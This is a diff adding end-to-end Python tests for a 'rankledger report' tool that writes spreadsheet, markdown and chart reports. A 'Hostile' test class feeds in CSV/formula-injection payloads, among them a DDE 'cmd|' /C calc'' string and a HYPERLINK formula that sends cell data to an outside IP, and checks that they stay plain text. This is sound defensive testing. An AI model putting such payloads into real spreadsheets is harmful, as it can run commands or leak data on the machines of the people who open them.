@@ -1,0 +1,422 @@
+"""End-to-end tests of `rankledger report`: test_report.py PROGRAM. Standard library only."""
+
+import copy
+import json
+import math
+import os
+import re
+import resource
+import shutil
+import signal
+import subprocess
+import sys
+import tempfile
+import time
+import unittest
+import xml.etree.ElementTree as ElementTree
+import zipfile
+
+PROGRAM = os.path.abspath(sys.argv.pop(1))
+SAMPLES = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "summary")
+ALL_FILES = ["charts/memory.svg", "charts/memory.png", "charts/throughput.svg",
+             "charts/throughput.png", "report.xlsx", "report.md"]
+SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+with open(PROGRAM, "rb") as program:
+    SANITIZED = b"__asan_init" in program.read()
+
+
+def sample(name):
+    with open(os.path.join(SAMPLES, name), encoding="utf-8") as file:
+        return json.load(file)
+
+
+class Report(unittest.TestCase):
+    def setUp(self):
+        self.folder = tempfile.mkdtemp(prefix="rankledger-report-")
+        self.output = os.path.join(self.folder, "out")
+
+    def tearDown(self):
+        shutil.rmtree(self.folder)
+
+    def path(self, name):
+        return os.path.join(self.folder, name)
+
+    def run_report(self, *arguments, expect=0, environment=None, **more):
+        result = subprocess.run([PROGRAM, "report", *arguments], capture_output=True, text=True,
+                                env={**os.environ, **(environment or {})}, cwd=self.folder, **more)
+        self.assertEqual(result.returncode, expect, result.stderr)
+        return result
+
+    def report_sample(self, name, *arguments, **more):
+        return self.run_report("--output", self.output, *arguments, os.path.join(SAMPLES, name),
+                               **more)
+
+    def report_summary(self, summary, *arguments, **more):
+        with open(self.path("summary.json"), "w", encoding="utf-8") as file:
+            json.dump(summary, file)
+        return self.run_report("--output", self.output, *arguments, self.path("summary.json"),
+                               **more)
+
+    def files(self):
+        """Relative paths and bytes of everything below the output folder."""
+        found = {}
+        for folder, _, names in os.walk(self.output):
+            for name in names:
+                path = os.path.join(folder, name)
+                with open(path, "rb") as file:
+                    found[os.path.relpath(path, self.output)] = file.read()
+        return found
+
+    def workbook(self):
+        return zipfile.ZipFile(os.path.join(self.output, "report.xlsx"))
+
+    def cells(self, sheet_number):
+        """Row of cells as {column letters: text or number} of a sheet, by row number."""
+        book = self.workbook()
+        strings = ["".join(node.itertext()) for node in
+                   ElementTree.fromstring(book.read("xl/sharedStrings.xml"))]
+        rows = {}
+        root = ElementTree.fromstring(book.read("xl/worksheets/sheet%d.xml" % sheet_number))
+        for cell in root.iter(SHEET + "c"):
+            value = cell.find(SHEET + "v")
+            if value is None:
+                continue
+            column, row = re.match("([A-Z]+)([0-9]+)", cell.get("r")).groups()
+            content = strings[int(value.text)] if cell.get("t") == "s" else float(value.text)
+            rows.setdefault(int(row), {})[column] = content
+        return rows
+
+
+class Files(Report):
+    def test_all_formats_are_written_and_named(self):
+        result = self.report_sample("accept.json")
+        self.assertEqual(sorted(self.files()), sorted(ALL_FILES))
+        self.assertEqual(result.stdout.splitlines(),
+                         [os.path.join(self.output, name) for name in ALL_FILES])
+        self.assertEqual(result.stderr, "")
+
+    def test_the_default_folder_is_report(self):
+        self.run_report("--format", "md", os.path.join(SAMPLES, "accept.json"))
+        self.assertTrue(os.path.exists(self.path("report/report.md")))
+
+    def test_formats_can_be_chosen_and_other_files_stay(self):
+        os.makedirs(self.output)
+        with open(os.path.join(self.output, "mine.txt"), "w") as file:
+            file.write("mine")
+        self.report_sample("accept.json", "--format", "md,svg")
+        self.assertEqual(sorted(self.files()), ["charts/memory.svg", "charts/throughput.svg",
+                                                "mine.txt", "report.md"])
+
+    def test_parents_of_the_folder_are_created(self):
+        self.output = self.path("a/b/c")
+        self.report_sample("accept.json", "--format", "md")
+        self.assertEqual(sorted(self.files()), ["report.md"])
+
+    def test_equal_input_gives_equal_bytes_everywhere(self):
+        self.report_sample("accept.json")
+        first = self.files()
+        shutil.rmtree(self.output)
+        self.report_sample("accept.json", environment={
+            "LC_ALL": "de_DE.UTF-8", "LANG": "de_DE.UTF-8", "TZ": "Asia/Kathmandu",
+            "TMPDIR": "/nowhere", "HOME": "/nowhere"})
+        second = self.files()
+        self.assertEqual(sorted(first), sorted(second))
+        for name, content in first.items():
+            self.assertEqual(content, second[name], name + " differs")
+
+    def test_the_date_can_be_set(self):
+        self.report_sample("accept.json", "--format", "xlsx",
+                           environment={"SOURCE_DATE_EPOCH": "1700000000"})
+        self.assertIn(b"2023-11-14T22:13:20Z", self.workbook().read("docProps/core.xml"))
+        self.report_sample("accept.json", "--format", "xlsx", expect=2,
+                           environment={"SOURCE_DATE_EPOCH": "yesterday"})
+
+    def test_every_sample_in_every_language_is_a_report(self):
+        for name in sorted(os.listdir(SAMPLES)):
+            for language in ("en", "zh"):
+                with self.subTest(name=name, language=language):
+                    self.report_sample(name, "--language", language)
+                    self.assertIn("report.xlsx", self.files())
+                    shutil.rmtree(self.output)
+
+    def test_groups_have_their_own_charts(self):
+        self.report_sample("groups.json", "--format", "svg,md")
+        self.assertEqual(sorted(self.files()), [
+            "charts/memory-1.svg", "charts/memory-2.svg", "charts/throughput-1.svg",
+            "charts/throughput-2.svg", "report.md"])
+
+
+class Workbook(Report):
+    def test_every_part_is_well_formed(self):
+        xmllint = shutil.which("xmllint")
+        for name in ("accept.json", "groups.json", "no_evidence.json"):
+            self.report_sample(name, "--format", "xlsx,png")
+            book = self.workbook()
+            self.assertIsNone(book.testzip())
+            for part in book.namelist():
+                if not part.endswith((".xml", ".rels")):
+                    continue
+                ElementTree.fromstring(book.read(part))
+                if xmllint:
+                    subprocess.run([xmllint, "--noout", "-"], input=book.read(part), check=True)
+        if not xmllint:
+            print("xmllint is not installed: parts were parsed by Python alone", file=sys.stderr)
+
+    def test_cells_are_the_numbers_of_the_summary(self):
+        self.report_sample("accept.json", "--format", "xlsx")
+        rows = self.cells(2)
+        heading = {text: column for column, text in rows[1].items()}
+        zero1 = rows[2]
+        self.assertEqual(zero1[heading["Strategy"]], "zero1")
+        self.assertEqual(zero1[heading["Peak memory (MiB)"]], 15120.5)
+        self.assertEqual(zero1[heading["Throughput (tokens/s)"]], 451000)
+        self.assertAlmostEqual(zero1[heading["Of the limit"]], 15120.5 / 15258.7890625, places=14)
+
+    def test_what_is_not_measured_is_an_empty_cell(self):
+        self.report_sample("accept.json", "--format", "xlsx")
+        rows = self.cells(2)
+        heading = {text: column for column, text in rows[1].items()}
+        failed = next(row for row in rows.values()
+                      if row.get(heading["Strategy"]) == "fsdp_full_shard")
+        for name in ("Rank", "Peak memory (MiB)", "Throughput (tokens/s)", "Step time (ms)"):
+            self.assertNotIn(heading[name], failed)
+
+    def test_sheets_are_set_up_for_reading_and_printing(self):
+        self.report_sample("accept.json", "--format", "xlsx")
+        book = self.workbook()
+        for number in range(2, 9):
+            text = book.read("xl/worksheets/sheet%d.xml" % number).decode()
+            self.assertIn('state="frozen"', text)
+            self.assertIn("<autoFilter", text)
+            self.assertIn('orientation="landscape"', text)
+            self.assertIn("&amp;P", text)
+            self.assertIn("<cols>", text)
+        names = book.read("xl/workbook.xml").decode()
+        self.assertIn("Print_Titles", names)
+        self.assertEqual(book.read("xl/media/image1.png")[:8], b"\x89PNG\r\n\x1a\n")
+        self.assertIn("xl/media/image2.png", book.namelist())
+
+    def test_sheet_names_are_those_of_the_language(self):
+        self.report_sample("accept.json", "--format", "xlsx", "--language", "zh")
+        root = ElementTree.fromstring(self.workbook().read("xl/workbook.xml"))
+        names = [sheet.get("name") for sheet in root.iter(SHEET + "sheet")]
+        self.assertEqual(len(names), 8)
+        self.assertEqual(len(set(names)), 8)
+        self.assertEqual(names[0], "决策")
+
+    def test_a_template_names_sheets_and_a_bad_name_is_refused(self):
+        os.makedirs(self.path("template/language"))
+
+        def write(texts):
+            with open(self.path("template/language/en.json"), "w") as file:
+                json.dump(texts, file)
+        write({"sheet.gates": "Hurdles"})
+        self.report_sample("accept.json", "--format", "xlsx", "--template", self.path("template"))
+        self.assertIn(b'name="Hurdles"', self.workbook().read("xl/workbook.xml"))
+        for name in ("", "a/b", "x" * 32, "Ledger", "'x"):
+            write({"sheet.gates": name})
+            result = self.report_sample("accept.json", "--format", "xlsx", "--template",
+                                        self.path("template"), expect=3)
+            self.assertIn("names a sheet", result.stderr)
+        write({"sheet.gate": "x"})
+        result = self.report_sample("accept.json", "--template", self.path("template"), expect=3)
+        self.assertIn("en.json:1:", result.stderr)
+
+
+class Hostile(Report):
+    FORMULAS = ["=1+1", "+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
+                '=HYPERLINK("http://192.0.2.1/?x="&A1,"A100")', "http://192.0.2.1/a",
+                "mailto:a@b.example", "internal:Sheet1!A1", "file:///etc/passwd", "{=1+1}"]
+
+    def hostile(self):
+        summary = sample("accept.json")
+        group = summary["groups"][0]
+        for index, text in enumerate(self.FORMULAS):
+            candidate = copy.deepcopy(group["candidates"][1])
+            candidate.update(label=text, strategy=text, rank=None, eligible=False)
+            candidate["failure"] = {"reason": text + " \u202e & < > \" \ufffe \u0007 /home/bob/x"}
+            candidate["gates"][0].update(detail=text, unit=text, name=text)
+            candidate["memory"]["phases"][0]["by_category"] = {text: 1 + index}
+            candidate["notes"] = [{"id": "no.such.id", "text": text, "values": {}}]
+            group["candidates"].append(candidate)
+            summary["sources"].append({"path": text, "strategy": text, "failure": {"x": text},
+                                       "decision": text, "warnings": [text, "_x000D_"]})
+        group["label"] = "=1+1"
+        group["key"]["model"] = "合成变换器多层感知机" * 13
+        summary["sources"][0]["failure"] = "E" * 32773
+        summary["rejected_sources"] = [{"path": "=1", "errors": [
+            {"message": "\u001b[31m" + "\U0001F600" * 16400, "rule": "@x", "severity": "=1"}]}]
+        summary["decision"]["reason"] = "=1+1 [x](http://192.0.2.1/) <b>@someone</b> |"
+        return summary
+
+    def test_no_text_becomes_a_formula_or_a_link(self):
+        self.report_summary(self.hostile())
+        book = self.workbook()
+        for part in book.namelist():
+            self.assertNotIn("externalLink", part)
+            text = book.read(part) if part.endswith((".xml", ".rels")) else b""
+            self.assertNotIn(b"<f>", text, part)
+            self.assertNotIn(b"<f ", text, part)
+            self.assertNotIn(b"<hyperlink", text, part)
+            self.assertNotIn(b'TargetMode="External"', text, part)
+        strings = book.read("xl/sharedStrings.xml").decode()
+        self.assertIn("=HYPERLINK(", strings)
+        self.assertIn("_x005F_x000D_", strings)
+        self.assertIn("/home/&lt;user&gt;/x", strings)
+        self.assertNotIn("bob", strings)
+
+    def test_texts_fit_their_cells(self):
+        self.report_summary(self.hostile(), "--format", "xlsx")
+        root = ElementTree.fromstring(self.workbook().read("xl/sharedStrings.xml"))
+        texts = ["".join(node.itertext()) for node in root]
+        longest = max(len(text.encode("utf-16-le")) // 2 for text in texts)
+        self.assertLessEqual(longest, 32767)
+        self.assertTrue(any(re.search("EEE… \\[cut: [0-9]+ more characters]$", text)
+                            for text in texts))
+
+    def test_markdown_stays_text(self):
+        self.report_summary(self.hostile(), "--format", "md")
+        text = self.files()["report.md"].decode()
+        self.assertNotIn("](http", text)
+        self.assertNotIn("<b>", text.replace("\\<b\\>", ""))
+        self.assertNotIn("\u202e", text)
+
+    def test_numbers_are_finite_whatever_their_size(self):
+        summary = sample("accept.json")
+        metrics = summary["groups"][0]["candidates"][0]["metrics"]
+        metrics.update(peak_memory_mb=1e308, throughput=5e-324, step_time_ms=1e-9,
+                       communication_ratio=1e17)
+        self.report_summary(summary)
+        for number in range(1, 9):
+            for row in self.cells(number).values():
+                for value in row.values():
+                    if isinstance(value, float):
+                        self.assertTrue(math.isfinite(value))
+
+
+class Faults(Report):
+    def assert_untouched(self, before):
+        self.assertEqual(self.files(), before)
+        self.assertEqual([name for name in os.listdir(self.output)
+                          if name.startswith(".rankledger")], [])
+
+    def test_usage_faults_say_what_to_type(self):
+        for arguments, word in ((["--format", "pdf"], "xlsx,md,svg,png"), (["--format", ""], "xlsx"),
+                                (["--format", "md,"], "xlsx"), (["--language", "fr"], "en, zh"),
+                                (["--output", "-"], "--output DIR"), (["--outptu", "x"], "output")):
+            result = self.run_report(*arguments, os.path.join(SAMPLES, "accept.json"), expect=2)
+            self.assertIn(word, result.stderr)
+            self.assertEqual(len(result.stderr.splitlines()), 1)
+        self.run_report(expect=2)
+        self.assertEqual(os.listdir(self.folder), [])
+
+    def test_unreadable_input_is_an_input_error(self):
+        self.run_report("nowhere.json", expect=3)
+        self.assertEqual(os.listdir(self.folder), [])
+
+    def test_a_folder_that_cannot_be_made_is_named(self):
+        with open(self.path("file"), "w") as file:
+            file.write("x")
+        for output in (self.path("file"), self.path("file/below"), "/proc/nowhere/report"):
+            result = self.run_report("--output", output, os.path.join(SAMPLES, "accept.json"),
+                                     expect=4)
+            self.assertIn(output.split("/below")[0].split("/report")[0], result.stderr)
+        self.assertEqual(os.listdir(self.folder), ["file"])
+
+    def test_a_new_folder_goes_again_when_nothing_is_written(self):
+        def limit():
+            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+            resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))
+        self.output = self.path("a/b")
+        self.report_sample("accept.json", expect=4, preexec_fn=limit)
+        self.assertEqual(os.listdir(self.folder), [])
+
+    def test_a_full_disk_leaves_the_old_report(self):
+        self.report_sample("tune.json")
+        before = self.files()
+        for size in (0, 1, 4096, 8192, 16384, 32768):
+            def limit(size=size):
+                signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+                resource.setrlimit(resource.RLIMIT_FSIZE, (size, size))
+            result = self.report_sample("accept.json", expect=4, preexec_fn=limit)
+            self.assertIn(self.output, result.stderr)
+            self.assert_untouched(before)
+
+    def test_a_file_that_cannot_be_replaced_leaves_the_others(self):
+        self.report_sample("tune.json")
+        os.remove(os.path.join(self.output, "report.md"))
+        os.makedirs(os.path.join(self.output, "report.md"))
+        before = self.files()
+        result = self.report_sample("accept.json", expect=4)
+        self.assertIn("report.md", result.stderr)
+        self.assert_untouched(before)
+
+    def test_exhausted_memory_is_an_error_and_leaves_the_old_report(self):
+        if SANITIZED:
+            self.skipTest("the sanitizer needs the address space")
+        self.report_sample("tune.json")
+        before = self.files()
+        outcomes = set()
+        for megabytes in range(24, 200, 4):
+            def limit(size=megabytes << 20):
+                resource.setrlimit(resource.RLIMIT_AS, (size, size))
+            result = subprocess.run(
+                [PROGRAM, "report", "--output", self.output, os.path.join(SAMPLES, "accept.json")],
+                capture_output=True, text=True, preexec_fn=limit)
+            if result.returncode == 127:
+                continue  # the loader could not map the libraries
+            outcomes.add(result.returncode)
+            if result.returncode == 0:
+                break
+            self.assertEqual(result.returncode, 4, result.stderr)
+            self.assert_untouched(before)
+        self.assertEqual(outcomes, {0, 4})
+
+    def test_an_interrupt_leaves_the_old_report(self):
+        self.report_sample("tune.json")
+        before = self.files()
+        summary = sample("accept.json")
+        group = summary["groups"][0]
+        summary["groups"] = [group] * 60
+        with open(self.path("large.json"), "w", encoding="utf-8") as file:
+            json.dump(summary, file)
+        for number in (signal.SIGINT, signal.SIGTERM):
+            process = subprocess.Popen(
+                [PROGRAM, "report", "--output", self.output, self.path("large.json")],
+                stderr=subprocess.PIPE, text=True)
+            deadline = time.monotonic() + 60
+            while not any(name.startswith(".rankledger") for name in os.listdir(self.output)):
+                self.assertLess(time.monotonic(), deadline)
+                time.sleep(0.001)
+            process.send_signal(number)
+            _, message = process.communicate()
+            self.assertEqual(process.returncode, 4, message)
+            self.assertIn("interrupted", message)
+            self.assert_untouched(before)
+
+
+class Symbols(unittest.TestCase):
+    def test_no_function_takes_the_place_of_a_library_function_unasked(self):
+        nm, ldd = shutil.which("nm"), shutil.which("ldd")
+        if not nm or not ldd:
+            self.skipTest("nm or ldd is not installed")
+
+        def names(*arguments):
+            output = subprocess.run([nm, *arguments], capture_output=True, text=True, check=True)
+            return {line.split()[-1].split("@")[0] for line in output.stdout.splitlines()
+                    if re.search(" [TDBRVW] ", line)}
+        libraries = re.findall(r"=> (\S*(?:xlsxwriter|cairo|pango|png)\S*)",
+                               subprocess.run([ldd, PROGRAM], capture_output=True, text=True,
+                                              check=True).stdout)
+        self.assertGreaterEqual(len(libraries), 4)
+        ours = names("--extern-only", "--defined-only", PROGRAM)
+        shared = set()
+        for library in libraries:
+            shared |= ours & names("-D", "--defined-only", library)
+        shared = {name for name in shared if not name.startswith("_")}
+        self.assertEqual(shared, {"lxw_tmpfile"})
+        self.assertIn("lxw_tmpfile", names("-D", "--defined-only", PROGRAM))
+
+
+if __name__ == "__main__":
+    unittest.main()
